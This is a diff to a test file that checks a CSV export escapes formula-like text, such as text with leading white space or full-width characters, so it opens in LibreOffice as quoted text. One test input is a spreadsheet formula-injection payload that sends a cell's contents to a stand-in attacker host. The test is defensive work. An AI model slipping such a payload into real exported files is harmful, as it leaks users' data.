@@ -3,8 +3,15 @@
  * (nb-NO, `;`) or English (en-GB, `,`) locale, with dates detected and formulas evaluated
  * as Excel does: a formula in a status stays text, coverage stays two numbers (not a date),
  * and decimals are numbers. The first case shows the old output failing the same checks.
+ *
+ * Text whose first non-white-space character starts a formula (" =…", NBSP, a line break,
+ * the full-width ＝＋－＠) is escaped too. LibreOffice 7.4 itself reads such cells as text
+ * even unescaped — it evaluates only a cell that begins with "=" — but other spreadsheets
+ * and import paths trim white space or fold full-width forms first; the test shows that
+ * the escaped cells open as the text itself after a visible quote mark, never a formula.
  */
 import { profilesToCsv } from "../../src/cli/profile-output";
+import { csvDialect, csvLines } from "../../src/cli/spreadsheet-csv";
 import { HYPERLINK_STATUS, hostileProfile } from "../support/hostile-profile";
 import { openCsv } from "../support/libreoffice";
 import { LONG_TEST_TIMEOUT_MS } from "../support/timing";
@@ -44,5 +51,17 @@ describe("the profile CSV in LibreOffice", () => {
     expect(sheet.value(SHEET, `${head[12]}1`)).toBe(lang === "nb" ? "Medlemmer" : "Members");
     // Every index of the other rows is a number equal to the profile's.
     for (const [i, r] of profile.rows.entries()) if (r.index !== null) expect(sheet.value(SHEET, `G${i + 2}`)).toBeCloseTo(r.index, 9);
+  });
+
+  it.each([
+    ["nb", ";", "nb-NO"],
+    ["en", ",", "en-GB"],
+  ] as const)("%s: text with a formula after white space or in full-width forms opens as that text after a quote mark", async (lang, separator, locale) => {
+    const texts = [" =1+1", "\u00A0=HYPERLINK(\"http://evil.example/?\"&A1)", "\n=1+1", "\u3000+1+1", " -1+2", " @SUM(1;2)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"];
+    const sheet = await openCsv(csvLines([["tekst"], ...texts.map((t) => [t])], csvDialect(lang)), { separator, locale });
+    for (const [i, text] of texts.entries()) {
+      expect([text, sheet.formula(SHEET, `A${i + 2}`)]).toEqual([text, undefined]);
+      expect(sheet.value(SHEET, `A${i + 2}`)).toBe(`'${text}`);
+    }
   });
 });
